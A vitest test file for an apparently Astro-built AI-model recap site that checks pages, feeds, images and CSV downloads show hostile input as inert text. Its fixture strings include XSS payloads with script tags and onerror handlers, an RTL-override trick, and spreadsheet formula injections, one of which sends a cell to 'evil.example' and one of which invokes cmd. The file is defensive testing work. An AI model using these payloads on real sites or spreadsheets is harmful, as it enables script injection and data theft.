import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { Resvg } from "@resvg/resvg-js";
import { parseHTML } from "linkedom";
import Papa from "papaparse";
import { MAX_RASTER_PIXELS, MAX_RASTER_SIDE } from "../src/schemas/limits";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { astroBuild, copyFixture } from "./helpers/astro";
import { walkFiles } from "./helpers/distPages";
import { feedparse, hasFeedparser } from "./helpers/feedparser";

/**
 * Hostile content (test/fixtures/sites/hostile/): a recap title, description and topic, a model
 * name and lab, and CSV cells (setting, note) carrying `<script>`, `"><img onerror>`, RTL override
 * (U+202E), zero-width characters and emoji. Built like any site, every page and every feed must
 * show them as text: no element, attribute or script comes from them, and the text survives intact.
 */

const TITLE = 'Sonnet <script>alert(1)</script> "><img src=x onerror=alert(1)> \u202eevil\u202c zero\u200bwidth\u200d 🚀';
const MODEL = 'GLM <script>alert(4)</script> "><img src=x onerror=alert(4)> \u202eevil\u202c z\u200bw 🚀';
// An RTL override closed within the cell (an unclosed one is refused: src/schemas/text.ts).
const NOTE = '"><img src=x onerror=alert(7)> \u202e\u200b\u202c 🚀';

let out = "";
let site = "";
beforeAll(() => {
  site = copyFixture("hostile");
  out = join(site, "dist");
  // A private file on the build machine (a red square), named by an <image> in an MDX recap's SVG.
  mkdirSync(join(site, "private"));
  const secret = join(site, "private/secret.png");
  writeFileSync(secret, new Resvg('<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><rect width="50" height="50" fill="#ff0000"/></svg>').render().asPng());
  const mdx = join(site, "content/recaps/2026-02-21-inline-svg.mdx");
  writeFileSync(mdx, readFileSync(mdx, "utf8").replace("LOCAL_PNG", secret));
  const result = astroBuild(site, out);
  if (result.status !== 0) throw new Error(`the hostile fixture did not build:\n${result.output.slice(-4000)}`);
});
afterAll(() => rmSync(site, { recursive: true, force: true }));

/** Everything in a document that could run code or load something the editor did not mean to. */
function injected(html: string): string[] {
  const { document } = parseHTML(html);
  const found: string[] = [];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) if (/^on/i.test(attr.name)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}="${attr.value}">`);
    if (el.tagName.toLowerCase() === "img" && el.getAttribute("src") === "x") found.push("<img src=x>");
    if (el.tagName.toLowerCase() === "script" && /alert\(/.test(el.textContent ?? "")) found.push(`<script>${el.textContent}</script>`);
  }
  return found;
}

const text = (html: string, selector: string) => [...parseHTML(html).document.querySelectorAll(selector)].map((el) => el.textContent ?? "");

describe("hostile content renders as text", () => {
  it("on every page: no injected element, attribute or script", () => {
    const pages = walkFiles(out).filter((f) => f.endsWith(".html"));
    expect(pages.length).toBeGreaterThan(10);
    const problems = pages.flatMap((f) => injected(readFileSync(f, "utf8")).map((p) => `${relative(out, f)}: ${p}`));
    console.log(`[hostile] ${pages.length} pages checked, ${problems.length} injections`);
    expect(problems).toEqual([]);
  });

  it("keeps the text intact, RTL, zero-width characters and emoji included", () => {
    const page = (path: string) => readFileSync(join(out, path, "index.html"), "utf8");
    expect(text(page("recaps/2026-02-17-sonnet-lands"), "h1")).toContain(TITLE);
    expect(text(page(""), "main a").join("\n")).toContain(TITLE);
    expect(text(page("recaps"), "main a").join("\n")).toContain(TITLE);
    expect(text(page("models/glm-5"), "h1").join("")).toContain(MODEL);
    expect(text(page("labs"), "main").join("")).toContain('Zhipu "><img src=x onerror=alert(5)>');
    // The CSV note (shown in a title attribute) and setting reach the pages as text, not markup.
    const strings = (html: string) => {
      const { document } = parseHTML(html);
      return [document.body.textContent ?? "", ...[...document.querySelectorAll("*")].flatMap((el) => [...el.attributes].map((a) => a.value))].join("\n");
    };
    const board = strings(page("leaderboards/aa-index/v3.0"));
    expect(board).toContain(NOTE);
    expect(board).toContain("<script>alert(6)</script>");
    expect(strings(page("models/glm-5"))).toContain("<script>alert(6)</script>");
  });

  it("in every feed: titles exact, item HTML without injected markup", () => {
    const feeds = walkFiles(out).filter((f) => /\.(xml|json)$/.test(f) && !/sitemap|\/data\//.test(f) && /<(rss|feed)[\s>]|jsonfeed\.org/.test(readFileSync(f, "utf8").slice(0, 500)));
    expect(feeds.map((f) => relative(out, f))).toEqual(expect.arrayContaining(["rss.xml", "atom.xml", "feed.json"]));
    const problems: string[] = [];
    let checked = 0;
    for (const file of feeds) {
      const raw = readFileSync(file, "utf8");
      const bodies: string[] = [];
      if (file.endsWith(".json")) {
        const feed = JSON.parse(raw) as { items: { title: string; content_html?: string; url: string }[] };
        const item = feed.items.find((i) => i.url.endsWith("/recaps/2026-02-17-sonnet-lands/"));
        if (item && item.title !== TITLE) problems.push(`${relative(out, file)}: title ${JSON.stringify(item.title)}`);
        bodies.push(...feed.items.map((i) => i.content_html ?? ""));
      } else {
        for (const m of raw.matchAll(/<(content:encoded|description|content|summary|subtitle)(\s[^>]*)?>([\s\S]*?)<\/\1>/g)) {
          // RSS description and content:encoded are HTML; Atom text constructs only with type="html".
          const isHtml = m[1] === "content:encoded" || m[1] === "description" || /type="(x?html)"/.test(m[2] ?? "");
          if (!isHtml) continue;
          const cdata = /^\s*<!\[CDATA\[([\s\S]*)\]\]>\s*$/.exec(m[3]);
          bodies.push(cdata ? cdata[1] : m[3].replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&#39;|&apos;/g, "'").replace(/&amp;/g, "&"));
        }
        // A raw "<script" or "<img" in the XML outside CDATA would be markup in the feed itself.
        const outsideCdata = raw.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, "");
        if (/<script|<img/i.test(outsideCdata)) problems.push(`${relative(out, file)}: raw markup in the XML`);
      }
      for (const body of bodies) for (const p of injected(`<!doctype html><html><body>${body}</body></html>`)) problems.push(`${relative(out, file)}: ${p}`);
      checked++;
    }
    if (hasFeedparser()) {
      const xml = feeds.filter((f) => f.endsWith(".xml"));
      feedparse(...xml).forEach((feed, i) => {
        if (feed.bozo) problems.push(`${relative(out, xml[i])}: bozo ${feed.bozoException}`);
        const entry = feed.entries.find((e) => e.link.endsWith("/recaps/2026-02-17-sonnet-lands/"));
        if (entry && entry.title !== TITLE) problems.push(`${relative(out, xml[i])}: feedparser reads the title as ${JSON.stringify(entry.title)}`);
      });
    }
    console.log(`[hostile] ${checked} feeds checked`);
    expect(problems).toEqual([]);
  });
});

/** Width, height and pixels of a PNG, read back through resvg (it draws a PNG given as a data: image). */
function decodePng(png: Buffer): { width: number; height: number; pixels: Uint8Array } {
  const width = png.readUInt32BE(16);
  const height = png.readUInt32BE(20);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><image href="data:image/png;base64,${png.toString("base64")}" width="${width}" height="${height}"/></svg>`;
  return { width, height, pixels: new Resvg(svg).render().pixels };
}

describe("hostile raw HTML, SVG and data (issue 11)", () => {
  const page = (path: string) => readFileSync(join(out, path, "index.html"), "utf8");
  const prose = (path: string) => {
    const { document } = parseHTML(page(path));
    return document.querySelector(".prose")!;
  };
  /** Elements and attributes the sanitiser must have removed, found in a document or fragment. */
  const unsafe = (root: { querySelectorAll(s: string): Iterable<Element> }) => {
    const found: string[] = [];
    for (const el of root.querySelectorAll("meta[http-equiv], iframe, form, input:not([type=checkbox]), object, embed, base, svg image, [style], [onerror], [onclick]")) found.push(el.outerHTML.slice(0, 80));
    for (const el of root.querySelectorAll("[href], [src]")) {
      const url = (el.getAttribute("href") ?? el.getAttribute("src") ?? "").replace(/[\u0000-\u0020]/g, "");
      if (/^(?!https?:|mailto:)[a-z][a-z0-9+.-]*:/i.test(url)) found.push(el.outerHTML.slice(0, 80));
    }
    return found;
  };

  it("a .md recap's raw HTML: what could redirect, frame, submit, style or run is gone; allowed HTML and its text stay", () => {
    const body = prose("recaps/2026-02-20-raw-html");
    expect(unsafe(body)).toEqual([]);
    const head = parseHTML(page("recaps/2026-02-20-raw-html")).document.querySelectorAll('meta[http-equiv="refresh"], base');
    expect([...head].length).toBe(0);
    expect(body.querySelector("sup")?.textContent).toBe("2");
    expect(body.querySelector("kbd")?.textContent).toBe("Ctrl");
    expect(body.querySelector("details summary")?.textContent).toBe("More");
    expect(body.querySelector('a[href="https://example.org/"]')?.getAttribute("rel")).toBe("noopener");
    expect(body.querySelector('img[alt="a picture"]')?.getAttribute("width")).toBe("120");
    expect(body.textContent).toContain("Styled paragraph.");
    expect(body.textContent).toMatch(/a typo.d link/); // SmartyPants curls the apostrophe
    expect(body.querySelector("a[href*=hhttps]")).toBeNull();
  });

  it("the same in every feed item", () => {
    const feed = JSON.parse(readFileSync(join(out, "feed.json"), "utf8")) as { items: { url: string; content_html: string }[] };
    const item = feed.items.find((i) => i.url.endsWith("/recaps/2026-02-20-raw-html/"))!;
    expect(unsafe(parseHTML(`<!doctype html><html><body>${item.content_html}</body></html>`).document)).toEqual([]);
    for (const f of feed.items) expect(unsafe(parseHTML(`<!doctype html><html><body>${f.content_html}</body></html>`).document)).toEqual([]);
  });

  it("feed images: an SVG without xmlns is drawn, none is larger than the limits, and none shows the local file an <image> named", () => {
    const dir = join(out, "feed-images");
    const pngs = readdirSync(dir).map((name) => decodePng(readFileSync(join(dir, name))));
    // The MDX recap's three SVGs (plus the plots of the fixture's components).
    expect(pngs.length).toBeGreaterThanOrEqual(3);
    const red = (p: { pixels: Uint8Array }) => {
      let n = 0;
      for (let i = 0; i < p.pixels.length; i += 4) if (p.pixels[i] > 200 && p.pixels[i + 1] < 60 && p.pixels[i + 2] < 60) n++;
      return n;
    };
    const blue = pngs.filter((p) => p.pixels[2] > 200 && p.pixels[0] < 60);
    expect(blue.map((p) => [p.width, p.height])).toEqual([[80, 40]]);
    // The feed item shows the huge one at the size of its (capped) PNG, not at 8000 pixels.
    const feed = JSON.parse(readFileSync(join(out, "feed.json"), "utf8")) as { items: { url: string; content_html: string }[] };
    const item = feed.items.find((i) => i.url.endsWith("/recaps/2026-02-21-inline-svg/"))!;
    const widths = [...parseHTML(`<html><body>${item.content_html}</body></html>`).document.querySelectorAll("img")].map((i) => Number(i.getAttribute("width")));
    expect(widths).toEqual([40, 979, 50]);
    for (const p of pngs) {
      expect(Math.max(p.width, p.height)).toBeLessThanOrEqual(MAX_RASTER_SIDE);
      expect(p.width * p.height).toBeLessThanOrEqual(MAX_RASTER_PIXELS);
      expect(red(p)).toBe(0);
    }
  });

  it("a lab named in a non-Latin script has its page; the CSV download quotes spreadsheet formulas", () => {
    expect(existsSync(join(out, "labs/u682a-u5f0f-u4f1a-u793e/index.html"))).toBe(true);
    expect(page("labs")).toContain("株式会社");
    const rows = Papa.parse<Record<string, string>>(readFileSync(join(out, "data/aa-index-v4.0.csv"), "utf8"), { header: true, skipEmptyLines: true }).data;
    const row = rows.find((r) => r.setting.includes("HYPERLINK"))!;
    expect(row.setting).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
    expect(row.score_note).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
